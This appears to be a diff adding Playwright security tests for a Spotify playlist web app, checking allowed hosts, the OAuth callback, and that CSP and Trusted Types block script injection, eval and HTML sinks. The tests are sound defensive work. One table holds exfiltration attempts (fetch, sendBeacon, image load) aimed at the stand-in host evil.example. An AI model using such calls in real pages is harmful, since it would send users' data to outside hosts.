@@ -1,0 +1,158 @@
+import { makeLibrary } from '../../../src/demo/music/data.ts';
+import { logOut } from '../../support/log-in-form.ts';
+import { playlistsPage } from '../../support/playlists-page.ts';
+import { expect, test } from '../fixtures.ts';
+
+test.describe('with covers', () => {
+  test.use({ spotifyOptions: { library: makeLibrary({ playlists: 120, hasCovers: true }) } });
+
+  test('[row 51] a whole journey asks this list of hosts and no other', async ({
+    page,
+    context,
+    spotify: _,
+    logIn,
+    baseURL,
+  }) => {
+    const hosts = new Set<string>();
+    context.on('request', (request) => hosts.add(new URL(request.url()).host));
+    await logIn(page);
+    await playlistsPage(page).allRows(120);
+    await page.getByRole('link', { name: 'Login flow' }).click();
+    await page.getByRole('button', { name: 'Refresh now' }).click();
+    await page.getByRole('link', { name: 'Playlists', exact: true }).click();
+    await expect(playlistsPage(page).status).toHaveText('120 playlists');
+    await logOut(page);
+    await expect(page.getByRole('textbox', { name: 'Client ID' })).toBeVisible();
+    expect([...hosts].sort()).toEqual(
+      [
+        new URL(baseURL ?? '').host,
+        'accounts.spotify.com',
+        'api.spotify.com',
+        'image-cdn-ak.spotifycdn.com',
+        'mosaic.scdn.co',
+      ].sort(),
+    );
+  });
+});
+
+test('[row 15] the callback asks its own origin and Spotify, and nobody else', async ({
+  page,
+  spotify: _,
+  logIn,
+  baseURL,
+}) => {
+  const asked: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(page.url()).pathname === '/callback') asked.push(new URL(request.url()).origin);
+  });
+  await logIn(page);
+  const allowed = [
+    new URL(baseURL ?? '').origin,
+    'https://accounts.spotify.com',
+    'https://api.spotify.com',
+  ];
+  expect(asked.filter((origin) => !allowed.includes(origin))).toEqual([]);
+});
+
+test('[row 47, row 50] an injected inline script does not run', async ({ page, expectConsole }) => {
+  expectConsole(/TrustedScript|trusted-types-sink/);
+  await page.goto('/');
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.append('document.title = "taken over"');
+    document.head.append(script);
+  });
+  await expect(page).not.toHaveTitle('taken over');
+});
+
+test('[row 50] eval is closed to text', async ({ page, expectConsole }) => {
+  expectConsole(/script-src|Trusted|unsafe-eval/i);
+  await page.goto('/');
+  // Later, for what Playwright itself runs in the page is exempt.
+  const outcome = await page.evaluate(
+    () =>
+      new Promise((resolve) => {
+        setTimeout(() => {
+          try {
+            resolve(`went through: ${new Function('return 1')()}`);
+          } catch (error) {
+            resolve(String(error));
+          }
+        });
+      }),
+  );
+  expect(outcome).toMatch(/^EvalError/);
+});
+
+/** Ways to turn text into markup or code. */
+const SINKS = {
+  innerHTML: 'document.body.innerHTML = "<img>"',
+  outerHTML: 'document.querySelector("h1").outerHTML = "<img>"',
+  insertAdjacentHTML: 'document.body.insertAdjacentHTML("beforeend", "<img>")',
+  srcdoc: 'document.createElement("iframe").srcdoc = "<script></script>"',
+  'document.write': 'document.write("<img>")',
+  DOMParser: 'new DOMParser().parseFromString("<img>", "text/html")',
+  'script.src': 'document.createElement("script").src = "/assets/x.js"',
+  setTimeout: 'setTimeout("1")',
+  'a policy of one’s own': 'trustedTypes.createPolicy("own", {})',
+  'a second policy of the same name': 'trustedTypes.createPolicy("solid-template", {})',
+};
+
+test('[row 50] every sink of markup and code is closed to text', async ({
+  page,
+  expectConsole,
+}) => {
+  expectConsole(/trusted-types|TrustedHTML|TrustedScript|Trusted Type/i);
+  await page.goto('/');
+  await page.getByRole('heading', { level: 1 }).waitFor();
+  for (const [sink, use] of Object.entries(SINKS)) {
+    await test.step(sink, async () => {
+      const outcome = await page.evaluate(async (code) => {
+        // Waited for here, so that no sink passes for the report of the one before.
+        const report = new Promise<string>((resolve) => {
+          const tell = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
+          addEventListener('securitypolicyviolation', tell, { once: true });
+        });
+        try {
+          return `went through: ${String(new Function(code)())}`;
+        } catch (error) {
+          return `${error} (${await report})`;
+        }
+      }, use);
+      expect(outcome).toMatch(/^(TypeError|EvalError).*trusted-types/s);
+    });
+  }
+});
+
+const WAYS_OUT: Readonly<Record<string, () => unknown>> = {
+  fetch: () => fetch('https://evil.example/?t=1').catch(() => undefined),
+  'a beacon': () => navigator.sendBeacon('https://evil.example/?t=1'),
+  'a picture': () =>
+    new Promise<void>((resolve) => {
+      const image = new Image();
+      image.onerror = () => resolve();
+      image.src = 'https://evil.example/?t=1';
+    }),
+};
+
+test('[row 47] no fetch, beacon or picture of a foreign host ever leaves the page', async ({
+  page,
+  network,
+  expectConsole,
+  allowHost,
+}) => {
+  const refusal = /securitypolicyviolation: (connect|img)-src https:\/\/evil\.example/;
+  expectConsole(refusal);
+  expectConsole(/evil\.example/);
+  allowHost('evil.example');
+  for (const [what, send] of Object.entries(WAYS_OUT)) {
+    await test.step(what, async () => {
+      await page.goto('/');
+      const complaint = page.waitForEvent('console', (message) => refusal.test(message.text()));
+      await page.evaluate(send);
+      await complaint;
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      expect(network.requests).toEqual([]);
+    });
+  }
+});
